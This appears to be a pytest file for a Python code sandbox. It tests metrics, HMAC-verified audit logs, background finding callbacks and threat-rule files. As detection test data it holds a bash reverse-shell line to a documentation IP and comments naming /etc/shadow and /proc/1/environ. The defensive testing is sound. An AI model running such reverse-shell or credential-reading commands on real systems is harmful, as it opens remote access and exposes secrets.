"""Observability from Python: metrics as a dict (and Prometheus text) with exact counts, an audit
log that verifies (with and without an HMAC key) and records the policy, findings delivered to a
callback on a background thread that never delays a run (slow or raising callbacks included),
rules files, and the asyncio twin with a coroutine callback."""

import asyncio
import json
import sys
import threading
import time

import pytest

from vana_sandbox import AsyncSandbox, Finding, Policy, PolicyRejected, Sandbox, SandboxError, verify_audit_log

#: A static sign of a reverse shell, in a comment: nothing is ever sent anywhere.
REVERSE_SHELL_COMMENT = "# bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\nprint('hi')\n"


def runs(language, status, backend="native"):
    return 'vana_sandbox_runs_total{backend="%s",language="%s",status="%s"}' % (backend, language, status)


def audit_records(sb_or_files):
    files = sb_or_files if isinstance(sb_or_files, list) else sb_or_files.audit_files
    return [json.loads(line) for f in files for line in open(f, encoding="utf-8")]


def test_metrics_are_a_dict_with_exact_counts():
    with Sandbox() as sb:
        assert sb.metrics().get(runs("python", "success"), 0) == 0
        for _ in range(2):
            assert sb.run_code("print(1)").ok
        assert sb.run_code("exit 3", language="bash").status == "error"
        with pytest.raises(PolicyRejected):
            sb.run_code("print(1)", timeout=10**6)
        m = sb.metrics()
        assert m[runs("python", "success")] == 2
        assert m[runs("bash", "error")] == 1
        assert m[runs("python", "rejected", backend="none")] == 1
        assert m['vana_sandbox_startup_seconds_count{backend="native"}'] == 3
        assert m["vana_sandbox_active_runs"] == 0
        assert all(isinstance(k, str) and isinstance(v, float) for k, v in m.items())
        text = sb.metrics_text()
        assert "# TYPE vana_sandbox_runs_total counter" in text
        sample = [
            line
            for line in text.splitlines()
            if line.startswith("vana_sandbox_runs_total{") and all(
                l in line for l in ('status="success"', 'language="python"', 'backend="native"')
            )
        ]
        assert len(sample) == 1 and sample[0].endswith(" 2"), sample


def test_findings_reach_the_callback_on_a_background_thread_and_the_audit_log(tmp_path):
    got, threads = [], set()

    def on_finding(f):
        got.append(f)
        threads.add(threading.get_ident())

    with Sandbox(audit_log=tmp_path / "audit", on_finding=on_finding) as sb:
        r = sb.run_code(REVERSE_SHELL_COMMENT)
        assert r.ok and r.stdout == "hi\n"
        assert sb.run_code("print('ordinary')").ok
        assert sb.flush(10)
        assert [f.rule for f in got] == ["reverse_shell"]
        f = got[0]
        assert isinstance(f, Finding)
        assert (f.run_id, f.severity, f.language) == (r.id, "critical", "python")
        assert "line 1" in f.explanation and f.evidence[0]["line"] == 1
        assert set(f.to_dict()) == {"rule", "severity", "summary", "run_id", "tenant", "language", "explanation", "evidence"}
        assert threading.get_ident() not in threads
        files = sb.audit_files
        assert files
    report = verify_audit_log(tmp_path / "audit")
    assert report["ok"] and report["closed"], report
    records = audit_records(files)
    types = [x["type"] for x in records]
    assert types[0] == "log_start" and types[-1] == "log_closed"
    assert types.count("run_started") == 2 and types.count("run_finished") == 2
    assert [x["rule"] for x in records if x["type"] == "finding"] == ["reverse_shell"]
    config = [(x["kind"], x["source"]) for x in records if x["type"] == "config_loaded"]
    assert config == [("threat_rules", "builtin"), ("policy", "default")]
    # Runs are logged by the code's hash; only a finding quotes the line it matched.
    text = "".join(open(f, encoding="utf-8").read() for f in files)
    assert "ordinary" not in text
    assert all("code" not in x for x in records if x["type"] == "run_started")


def test_a_slow_or_raising_callback_never_delays_a_run(monkeypatch):
    unraisable = []
    monkeypatch.setattr(sys, "unraisablehook", lambda u: unraisable.append(u))
    calls = []

    def slow_then_raise(f):
        calls.append(f.rule)
        time.sleep(1.5)
        raise RuntimeError("callback failed")

    with Sandbox(on_finding=slow_then_raise) as sb:
        sb.run_code("print('warm up')")
        start = time.monotonic()
        for _ in range(3):
            assert sb.run_code("print(1)  # cat /etc/shadow").ok
        # Three findings, each holding the callback 1.5 s: the runs did not wait for them.
        assert time.monotonic() - start < 3.0
        assert sb.flush(15)
    assert calls == ["credential_paths"] * 3
    assert len(unraisable) == 3
    assert all(isinstance(u.exc_value, RuntimeError) for u in unraisable)


def test_an_hmac_keyed_log_and_a_policy_file(tmp_path):
    key = tmp_path / "audit.key"
    key.write_text("0123456789abcdef0123456789abcdef\n")
    toml = tmp_path / "policy.toml"
    toml.write_text("name = 'small'\n[limits]\nmemory_mb = 128\n")
    log = tmp_path / "audit"
    with Sandbox(policy=Policy.from_file(toml), audit_log=log, audit_hmac_key_file=key) as sb:
        fingerprint = sb.run_code("print(1)").policy_fingerprint
        files = sb.audit_files
    assert verify_audit_log(log, hmac_key_file=key)["ok"]
    assert verify_audit_log(files, hmac_key_file=key)["ok"]
    broken = verify_audit_log(log)
    assert not broken["ok"] and broken["problem"]["kind"] == "altered", broken
    policy = [x for x in audit_records(files) if x["type"] == "config_loaded" and x["kind"] == "policy"]
    assert [(x["source"], x["fingerprint"]) for x in policy] == [(str(toml), fingerprint)]
    with pytest.raises(SandboxError, match="at least 16"):
        bad = tmp_path / "short.key"
        bad.write_text("short")
        Sandbox(audit_log=log, audit_hmac_key_file=bad)
    with pytest.raises(SandboxError, match="needs `audit_log`"):
        Sandbox(audit_hmac_key_file=key)


def test_a_rules_file_adds_and_turns_off_rules(tmp_path):
    rules = tmp_path / "rules.toml"
    rules.write_text(
        "[[rules]]\nid = 'credential_paths'\nenabled = false\n\n"
        "[[rules]]\nid = 'no_eval'\nseverity = 'low'\nsummary = 'eval of a string'\n"
        "[rules.when.code]\npatterns = ['\\beval\\(']\n"
    )
    got = []
    with Sandbox(threat_rules=rules, on_finding=got.append) as sb:
        assert sb.run_code("print(eval('6 * 7'))  # /etc/shadow").stdout == "42\n"
        assert sb.flush(10)
    assert [(f.rule, f.severity) for f in got] == [("no_eval", "low")]
    with pytest.raises(SandboxError, match="rule `broken`"):
        bad = tmp_path / "bad.toml"
        bad.write_text("[[rules]]\nid = 'broken'\nseverity = 'low'\n[rules.when.code]\npatterns = ['(']\n")
        Sandbox(threat_rules=bad)


def test_close_delivers_the_last_findings_and_is_final(tmp_path):
    got = []
    sb = Sandbox(audit_log=tmp_path / "audit", on_finding=lambda f: got.append(f.rule))
    sb.run_code("print(1)  # /proc/1/environ")
    sb.close()
    assert got == ["environ_read"]
    assert verify_audit_log(tmp_path / "audit")["closed"]
    sb.close()
    with pytest.raises(SandboxError):
        sb.run_code("print(1)")
    with pytest.raises(TypeError):
        Sandbox(on_finding="not callable")


def test_async_sandbox_with_a_coroutine_callback(tmp_path):
    async def main():
        loop = asyncio.get_running_loop()
        got = []

        async def on_finding(f):
            got.append((f.rule, asyncio.get_running_loop() is loop))

        async with AsyncSandbox(audit_log=tmp_path / "audit", on_finding=on_finding) as sb:
            results = await asyncio.gather(
                sb.run_code("print(1)  # /proc/1/environ"), sb.run_code("print(2)"), sb.run_code("echo 3", language="bash")
            )
            assert [r.stdout for r in results] == ["1\n", "2\n", "3\n"]
            assert await sb.flush(10)
            for _ in range(100):
                if got:
                    break
                await asyncio.sleep(0.01)
            m = sb.metrics()
            assert m[runs("python", "success")] == 2 and m[runs("bash", "success")] == 1
            assert "vana_sandbox_runs_total" in sb.metrics_text()
            files = sb.audit_files
        assert got == [("environ_read", True)]
        assert verify_audit_log(files)["closed"]

    asyncio.run(main())


def test_verify_audit_log_needs_files(tmp_path):
    with pytest.raises(SandboxError, match="no audit files"):
        verify_audit_log(tmp_path)
